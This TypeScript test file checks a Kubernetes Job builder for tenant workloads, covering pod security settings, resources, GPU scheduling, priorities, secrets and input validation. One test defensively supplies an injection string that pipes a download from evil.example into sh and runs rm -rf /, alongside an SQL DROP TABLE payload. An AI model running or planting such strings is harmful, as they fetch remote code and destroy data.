import type { V1Container, V1Job, V1PodSpec } from '@kubernetes/client-node';
import { BUILT_IN_JOB_TYPES } from '../jobTypes';
import { parseJobRequest } from '../request';
import type { JobTypeDefinition, PriorityId, TierId } from '../types';
import { type BuildJobContext, type BuildJobRequest, buildJob } from './job';
import { readRunOrigin } from './runOrigin';

const etl = BUILT_IN_JOB_TYPES['data-etl'];
const ml = BUILT_IN_JOB_TYPES['ml-training'];

const request: BuildJobRequest = {
  tenantId: 'enterprise-001',
  jobType: 'data-etl',
  parameters: { source: 'events-db', destination: 'warehouse' },
};

const context: BuildJobContext = {
  jobType: etl,
  namespace: 'tenant-enterprise-001',
  runId: '3f6c1a9e-8a0b-4d51-9d1e-0c5f2b7a9e11',
  jobName: 'data-etl-enterprise-001-20250717-143022-x7k2p',
  tier: 'large',
  priority: 'normal',
};

function build(
  requestChanges: Partial<BuildJobRequest> = {},
  contextChanges: Partial<BuildJobContext> = {},
): V1Job {
  return buildJob(
    { ...request, ...requestChanges },
    { ...context, ...contextChanges },
  );
}

function podOf(job: V1Job): V1PodSpec {
  return job.spec!.template.spec!;
}

function containerOf(job: V1Job): V1Container {
  const containers = podOf(job).containers;
  expect(containers).toHaveLength(1);
  return containers[0];
}

function mlJob(tier: TierId = 'xlarge'): V1Job {
  return build(
    {
      jobType: 'ml-training',
      parameters: { model: 'recommender', dataset: 'history' },
    },
    { jobType: ml, tier },
  );
}

const runLabels = {
  'app.kubernetes.io/managed-by': 'tenant-jobs',
  'tenant-jobs.io/tenant': 'enterprise-001',
  'tenant-jobs.io/type': 'data-etl',
  'tenant-jobs.io/priority': 'normal',
  'tenant-jobs.io/run-id': '3f6c1a9e-8a0b-4d51-9d1e-0c5f2b7a9e11',
};

describe('buildJob', () => {
  describe('object and metadata', () => {
    it('builds a batch/v1 Job in the tenant namespace', () => {
      const job = build();
      expect(job.apiVersion).toBe('batch/v1');
      expect(job.kind).toBe('Job');
      expect(job.metadata?.name).toBe(context.jobName);
      expect(job.metadata?.namespace).toBe('tenant-enterprise-001');
    });

    it('labels the Job and repeats the labels on the pod template', () => {
      const job = build();
      expect(job.metadata?.labels).toEqual(runLabels);
      expect(job.spec?.template.metadata?.labels).toEqual(runLabels);
    });

    it('labels the priority', () => {
      const job = build({}, { priority: 'batch' });
      expect(job.metadata?.labels?.['tenant-jobs.io/priority']).toBe('batch');
    });

    it('annotates the entity ref only when given', () => {
      expect(build().metadata).not.toHaveProperty('annotations');
      expect(build().spec?.template.metadata).not.toHaveProperty('annotations');
      const job = build({ entityRef: 'component:default/billing' });
      expect(job.metadata?.annotations).toEqual({
        'tenant-jobs.io/entity-ref': 'component:default/billing',
      });
      expect(job.spec?.template.metadata?.annotations).toEqual({
        'tenant-jobs.io/entity-ref': 'component:default/billing',
      });
    });

    it('records the run origin on the Job, and reads it back whole', () => {
      const origin = {
        submittedBy: 'user:default/alice',
        submittedAt: '2026-12-06T10:00:00.000Z',
        idempotencyKey: 'nightly-2026-12-06',
        triggerId: '0b8e4f7a-2c1d-4e5f-8a9b-1c2d3e4f5a6b',
      };
      const job = build({ entityRef: 'component:default/billing' }, { origin });
      expect(job.metadata?.annotations).toEqual({
        'tenant-jobs.io/entity-ref': 'component:default/billing',
        'tenant-jobs.io/submitted-by': 'user:default/alice',
        'tenant-jobs.io/submitted-at': '2026-12-06T10:00:00.000Z',
        'tenant-jobs.io/tier': 'large',
        'tenant-jobs.io/parameters':
          '{"source":"events-db","destination":"warehouse"}',
        'tenant-jobs.io/idempotency-key': 'nightly-2026-12-06',
        'tenant-jobs.io/trigger-id': origin.triggerId,
      });
      // Pods carry only what they did before.
      expect(job.spec?.template.metadata?.annotations).toEqual({
        'tenant-jobs.io/entity-ref': 'component:default/billing',
      });
      expect(readRunOrigin(job.metadata)).toEqual({
        ...origin,
        tier: 'large',
        parameters: request.parameters,
        entityRef: 'component:default/billing',
      });
    });

    it('reads only well-formed origin annotations', () => {
      expect(
        readRunOrigin({
          annotations: {
            'tenant-jobs.io/submitted-by': 'alice',
            'tenant-jobs.io/submitted-at': 'yesterday',
            'tenant-jobs.io/tier': 'huge',
            'tenant-jobs.io/parameters': '[1,2]',
            'tenant-jobs.io/entity-ref': 'billing',
          },
        }),
      ).toEqual({});
      expect(
        readRunOrigin({ annotations: { 'tenant-jobs.io/parameters': '{' } }),
      ).toEqual({});
      expect(readRunOrigin(undefined)).toEqual({});
    });

    it('is plain data: no YAML, no shell text, JSON round-trips', () => {
      const job = build();
      expect(JSON.parse(JSON.stringify(job))).toEqual(job);
      expect(typeof job).toBe('object');
    });
  });

  describe('job spec', () => {
    it('sets retries, deadline, TTL and a single completion', () => {
      const spec = build().spec!;
      expect(spec.backoffLimit).toBe(3);
      expect(spec.activeDeadlineSeconds).toBe(10800);
      expect(spec.ttlSecondsAfterFinished).toBe(86400);
      expect(spec.completions).toBe(1);
      expect(spec.parallelism).toBe(1);
    });

    it('takes a configured TTL, including zero', () => {
      expect(
        build({}, { ttlSecondsAfterFinished: 600 }).spec
          ?.ttlSecondsAfterFinished,
      ).toBe(600);
      expect(
        build({}, { ttlSecondsAfterFinished: 0 }).spec?.ttlSecondsAfterFinished,
      ).toBe(0);
      expect(() => build({}, { ttlSecondsAfterFinished: -1 })).toThrow(
        'ttlSecondsAfterFinished',
      );
    });

    it('lets a deadline override shorten but never extend the default', () => {
      expect(
        build({}, { deadlineSeconds: 60 }).spec?.activeDeadlineSeconds,
      ).toBe(60);
      expect(
        build({}, { deadlineSeconds: 999999 }).spec?.activeDeadlineSeconds,
      ).toBe(10800);
      expect(() => build({}, { deadlineSeconds: 0 })).toThrow('Deadline');
      expect(() => build({}, { deadlineSeconds: 1.5 })).toThrow('Deadline');
    });

    it('fails fast on exit code 42 and ignores disruptions', () => {
      expect(build().spec?.podFailurePolicy).toEqual({
        rules: [
          {
            action: 'Ignore',
            onPodConditions: [{ type: 'DisruptionTarget', status: 'True' }],
          },
          {
            action: 'FailJob',
            onExitCodes: { containerName: 'job', operator: 'In', values: [42] },
          },
        ],
      });
    });
  });

  describe('pod security', () => {
    it('never restarts in place', () => {
      // Required by podFailurePolicy; retries are new pods.
      expect(podOf(build()).restartPolicy).toBe('Never');
    });

    it('runs as the runner ServiceAccount without a token', () => {
      const pod = podOf(build());
      expect(pod.serviceAccountName).toBe('tenant-jobs-runner');
      expect(pod.automountServiceAccountToken).toBe(false);
    });

    it('injects no service links', () => {
      expect(podOf(build()).enableServiceLinks).toBe(false);
    });

    it('shares no host namespaces', () => {
      const pod = podOf(build());
      expect(pod.hostNetwork).toBeUndefined();
      expect(pod.hostPID).toBeUndefined();
      expect(pod.hostIPC).toBeUndefined();
    });

    it('sets the pod security context field by field', () => {
      const securityContext = podOf(build()).securityContext!;
      expect(securityContext.runAsNonRoot).toBe(true);
      expect(securityContext.runAsUser).toBe(65532);
      expect(securityContext.runAsGroup).toBe(65532);
      expect(securityContext.fsGroup).toBe(65532);
      expect(securityContext.seccompProfile).toEqual({
        type: 'RuntimeDefault',
      });
      expect(Object.keys(securityContext).sort()).toEqual([
        'fsGroup',
        'runAsGroup',
        'runAsNonRoot',
        'runAsUser',
        'seccompProfile',
      ]);
    });

    it('sets the container security context field by field', () => {
      const securityContext = containerOf(build()).securityContext!;
      expect(securityContext.allowPrivilegeEscalation).toBe(false);
      expect(securityContext.privileged).toBe(false);
      expect(securityContext.readOnlyRootFilesystem).toBe(true);
      expect(securityContext.runAsNonRoot).toBe(true);
      expect(securityContext.capabilities).toEqual({ drop: ['ALL'] });
      expect(securityContext.capabilities).not.toHaveProperty('add');
      expect(securityContext.seccompProfile).toEqual({
        type: 'RuntimeDefault',
      });
      expect(Object.keys(securityContext).sort()).toEqual([
        'allowPrivilegeEscalation',
        'capabilities',
        'privileged',
        'readOnlyRootFilesystem',
        'runAsNonRoot',
        'seccompProfile',
      ]);
    });

    it('gives each Job its own security context objects', () => {
      const a = build();
      containerOf(a).securityContext!.capabilities!.drop!.push('NONE');
      podOf(a).securityContext!.runAsUser = 0;
      const b = build();
      expect(containerOf(b).securityContext!.capabilities).toEqual({
        drop: ['ALL'],
      });
      expect(podOf(b).securityContext!.runAsUser).toBe(65532);
    });

    it('mounts a bounded emptyDir on /tmp for the read-only root', () => {
      const job = build();
      expect(podOf(job).volumes).toEqual([
        { name: 'tmp', emptyDir: { sizeLimit: '8Gi' } },
      ]);
      expect(containerOf(job).volumeMounts).toEqual([
        { name: 'tmp', mountPath: '/tmp' },
      ]);
    });
  });

  describe('container', () => {
    it('runs the type image and exec-form command unchanged', () => {
      const container = containerOf(build());
      expect(container.name).toBe('job');
      expect(container.image).toBe('python:3.12-slim');
      expect(container.imagePullPolicy).toBe('IfNotPresent');
      expect(container.command).toEqual([
        'python',
        '-m',
        'tenant_jobs.data_etl',
      ]);
      expect(container).not.toHaveProperty('args');
      expect(container.terminationMessagePolicy).toBe('FallbackToLogsOnError');
    });

    it('sets run and parameter variables, with defaults filled in', () => {
      expect(containerOf(build()).env).toEqual([
        { name: 'TJ_TENANT_ID', value: 'enterprise-001' },
        { name: 'TJ_RUN_ID', value: context.runId },
        { name: 'TJ_JOB_TYPE', value: 'data-etl' },
        { name: 'TJ_TIER', value: 'large' },
        { name: 'TJ_PRIORITY', value: 'normal' },
        { name: 'HOME', value: '/tmp' },
        { name: 'TMPDIR', value: '/tmp' },
        { name: 'TJ_PARAM_SOURCE', value: 'events-db' },
        { name: 'TJ_PARAM_DESTINATION', value: 'warehouse' },
        { name: 'TJ_PARAM_MODE', value: 'incremental' },
      ]);
    });

    it('encodes numbers, booleans, objects and arrays as strings', () => {
      const jobType: JobTypeDefinition = {
        ...etl,
        parameterSchema: {
          type: 'object',
          properties: {
            n: { type: 'number', minimum: 0, maximum: 1 },
            b: { type: 'boolean' },
            list: {
              type: 'array',
              maxItems: 2,
              items: { type: 'integer', minimum: 0, maximum: 9 },
            },
          },
          additionalProperties: false,
        },
      };
      const env = containerOf(
        build({ parameters: { n: 0.5, b: false, list: [1, 2] } }, { jobType }),
      ).env!.filter(v => v.name.startsWith('TJ_PARAM_'));
      expect(env).toEqual([
        { name: 'TJ_PARAM_N', value: '0.5' },
        { name: 'TJ_PARAM_B', value: 'false' },
        { name: 'TJ_PARAM_LIST', value: '[1,2]' },
      ]);
      expect(env.every(v => typeof v.value === 'string')).toBe(true);
    });

    it('keeps shell metacharacters as data in env values, never in the command', () => {
      const hostile =
        '$(curl evil.example|sh); `id` && rm -rf / || echo "x" > /etc/y';
      const parsed = parseJobRequest({
        tenantId: 'enterprise-001',
        jobType: 'data-etl',
        parameters: { source: hostile, destination: "'; DROP TABLE x; --" },
      });
      if (!parsed.success) {
        throw new Error(parsed.message);
      }
      const container = containerOf(buildJob(parsed.request, context));
      expect(container.env).toContainEqual({
        name: 'TJ_PARAM_SOURCE',
        value: hostile,
      });
      expect(container.env).toContainEqual({
        name: 'TJ_PARAM_DESTINATION',
        value: "'; DROP TABLE x; --",
      });
      expect(container.command).toEqual(etl.command);
      expect(container.args).toBeUndefined();
      expect(JSON.stringify(container.command)).not.toContain('curl');
    });

    it('passes parameters as separate argv entries with an argument template', () => {
      const jobType: JobTypeDefinition = {
        ...etl,
        args: [
          'sync',
          { param: 'source', flag: '--from' },
          { param: 'destination' },
        ],
      };
      const container = containerOf(
        build(
          { parameters: { source: 'a b; c', destination: 'd' } },
          { jobType },
        ),
      );
      expect(container.command).toEqual(etl.command);
      expect(container.args).toEqual(['sync', '--from', 'a b; c', 'd']);
    });

    it('refuses parameters the type does not declare', () => {
      expect(() => build({ parameters: { source: 'a', rogue: 'x' } })).toThrow(
        "Job type 'data-etl' has no parameter 'rogue'",
      );
    });
  });

  describe('resources and GPU', () => {
    it.each([
      ['small', '250m', '512Mi', '1Gi'],
      ['medium', '500m', '1Gi', '2Gi'],
      ['large', '2', '4Gi', '8Gi'],
      ['xlarge', '8', '16Gi', '20Gi'],
    ] as const)(
      'gives a %s job requests = limits of %s / %s and %s of /tmp',
      (tier, cpu, memory, tmp) => {
        const job = build({}, { tier });
        expect(containerOf(job).resources).toEqual({
          requests: { cpu, memory },
          limits: { cpu, memory },
        });
        expect(podOf(job).volumes?.[0].emptyDir?.sizeLimit).toBe(tmp);
        expect(containerOf(job).env).toContainEqual({
          name: 'TJ_TIER',
          value: tier,
        });
      },
    );

    it('schedules non-GPU jobs away from GPU nodes', () => {
      const pod = podOf(build({}, { tier: 'xlarge' }));
      expect(pod.tolerations).toBeUndefined();
      expect(pod.nodeSelector).toBeUndefined();
      expect(pod.affinity).toBeUndefined();
      expect(
        containerOf(build({}, { tier: 'xlarge' })).resources?.limits,
      ).not.toHaveProperty('nvidia.com/gpu');
    });

    it.each([
      ['xlarge', '1'],
      ['enterprise', '2'],
    ] as const)(
      'gives a GPU job on %s %s GPU(s), toleration and selector',
      (tier, gpus) => {
        const job = mlJob(tier);
        const container = containerOf(job);
        expect(container.resources?.limits?.['nvidia.com/gpu']).toBe(gpus);
        expect(container.resources?.requests?.['nvidia.com/gpu']).toBe(gpus);
        expect(podOf(job).tolerations).toEqual([
          { key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' },
        ]);
        expect(podOf(job).nodeSelector).toEqual({
          'tenant-jobs.io/node-class': 'gpu',
        });
      },
    );

    it('refuses tiers the type does not allow', () => {
      expect(() => mlJob('large')).toThrow(
        "Tier 'large' is not allowed for job type 'ml-training'",
      );
      expect(() => build({}, { tier: 'micro' })).toThrow(
        "Tier 'micro' is not allowed",
      );
    });

    it('refuses a GPU type on a tier without GPU even if it lists the tier', () => {
      const sloppy: JobTypeDefinition = { ...ml, allowedTiers: ['large'] };
      expect(() =>
        build(
          { jobType: 'ml-training', parameters: { model: 'm', dataset: 'd' } },
          { jobType: sloppy, tier: 'large' },
        ),
      ).toThrow("Tier 'large' offers no GPU");
    });
  });

  describe('priority', () => {
    it.each([
      ['critical', 'tenant-jobs-critical'],
      ['high', 'tenant-jobs-high'],
      ['normal', 'tenant-jobs-normal'],
      ['low', 'tenant-jobs-low'],
      ['batch', 'tenant-jobs-batch'],
    ] as const)('maps %s to priorityClassName %s', (priority, className) => {
      const job = build({}, { priority });
      expect(podOf(job).priorityClassName).toBe(className);
      expect(podOf(job).priority).toBeUndefined();
      expect(podOf(job).preemptionPolicy).toBeUndefined();
    });

    it('refuses an unknown priority', () => {
      expect(() => build({}, { priority: 'urgent' as PriorityId })).toThrow(
        "Unknown priority 'urgent'",
      );
    });
  });

  describe('secrets', () => {
    it('references secrets of the type and context by name only', () => {
      const jobType = { ...etl, secretRefs: ['etl-connections'] };
      const container = containerOf(
        build(
          {},
          { jobType, secretRefs: ['warehouse-credentials', 'etl-connections'] },
        ),
      );
      expect(container.envFrom).toEqual([
        { secretRef: { name: 'etl-connections', optional: false } },
        { secretRef: { name: 'warehouse-credentials', optional: false } },
      ]);
      expect(JSON.stringify(container.env)).not.toContain('secretKeyRef');
    });

    it('adds no envFrom without secrets', () => {
      expect(containerOf(build())).not.toHaveProperty('envFrom');
    });

    it.each(['Bad_Name', '../other', 'a'.repeat(254), 'other-ns/secret'])(
      'refuses secret name %s',
      name => {
        expect(() => build({}, { secretRefs: [name] })).toThrow(
          'Invalid Secret name',
        );
      },
    );
  });

  describe('simulation annotations', () => {
    it('passes tenant-jobs.io/simulate* annotations to the pod only', () => {
      const job = build(
        { entityRef: 'component:default/x' },
        {
          annotations: {
            'tenant-jobs.io/simulate-exit-code': '42',
            'tenant-jobs.io/simulate': 'fail',
          },
        },
      );
      expect(job.spec?.template.metadata?.annotations).toEqual({
        'tenant-jobs.io/entity-ref': 'component:default/x',
        'tenant-jobs.io/simulate-exit-code': '42',
        'tenant-jobs.io/simulate': 'fail',
      });
      expect(job.metadata?.annotations).toEqual({
        'tenant-jobs.io/entity-ref': 'component:default/x',
      });
    });

    it.each([
      'tenant-jobs.io/entity-ref',
      'kwok.x-k8s.io/node',
      'container.apparmor.security.beta.kubernetes.io/job',
      'tenant-jobs.io/simulate/x',
    ])('refuses annotation %s', key => {
      expect(() => build({}, { annotations: { [key]: 'x' } })).toThrow(
        `Annotation '${key}'`,
      );
    });

    it('bounds annotation values', () => {
      expect(() =>
        build(
          {},
          { annotations: { 'tenant-jobs.io/simulate': 'x'.repeat(1025) } },
        ),
      ).toThrow('at most 1024 characters');
    });
  });

  describe('input checks', () => {
    it.each<
      [string, Partial<BuildJobRequest>, Partial<BuildJobContext>, string]
    >([
      ['tenant id', { tenantId: 'Bad' }, {}, "Invalid tenant id 'Bad'"],
      [
        'job type mismatch',
        { jobType: 'billing-report' },
        {},
        "Request is for job type 'billing-report'",
      ],
      ['namespace', {}, { namespace: 'Tenant' }, "Invalid namespace 'Tenant'"],
      ['job name', {}, { jobName: 'x'.repeat(64) }, 'Invalid Job name'],
      [
        'run id',
        {},
        { runId: 'a/b' },
        "Run id 'a/b' is not a valid label value",
      ],
      ['empty run id', {}, { runId: '' }, 'is not a valid label value'],
      ['entity ref', { entityRef: 'x\ny' }, {}, 'Invalid entity ref'],
    ])('refuses a bad %s', (_what, requestChanges, contextChanges, error) => {
      expect(() => build(requestChanges, contextChanges)).toThrow(error);
    });
  });
});
